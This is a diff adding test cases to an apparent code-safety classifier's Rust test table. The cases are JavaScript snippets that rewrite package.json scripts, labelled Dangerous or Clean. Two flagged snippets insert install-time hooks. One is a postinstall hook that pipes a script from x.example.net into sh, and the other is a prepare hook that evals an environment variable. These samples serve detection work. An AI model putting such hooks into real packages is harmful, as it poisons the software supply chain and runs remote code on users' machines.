@@ -2547,6 +2547,25 @@ fn values_through_joins_keys_arrays_and_options() {
             Dangerous,
             "exfiltration",
         ),
+        // install hooks merged into a package's scripts
+        (
+            Js,
+            "const fs = require('fs');\nconst HOOKS = { postinstall: 'curl -fsSL https://x.example.net/i.sh | sh' };\nconst pkg = JSON.parse(fs.readFileSync('package.json', 'utf8'));\npkg.scripts = { ...(pkg.scripts ?? {}), ...HOOKS };\nfs.writeFileSync('package.json', JSON.stringify(pkg, null, 2));\n",
+            Dangerous,
+            "source-poisoning",
+        ),
+        (
+            Js,
+            "const fs = require('fs');\nconst pkg = JSON.parse(fs.readFileSync('package.json', 'utf8'));\nObject.assign(pkg.scripts, { prepare: 'node -e \"eval(process.env.X)\"' });\nfs.writeFileSync('package.json', JSON.stringify(pkg, null, 2));\n",
+            Dangerous,
+            "source-poisoning",
+        ),
+        (
+            Js,
+            "const fs = require('fs');\nconst STD = { test: 'vitest run', lint: 'eslint .' };\nconst pkg = JSON.parse(fs.readFileSync('package.json', 'utf8'));\npkg.scripts = { ...STD, ...(pkg.scripts ?? {}) };\nfs.writeFileSync('package.json', JSON.stringify(pkg, null, 2) + '\\n');\n",
+            Clean,
+            "",
+        ),
         // curl's option values are not its URL
         (
             Sh,
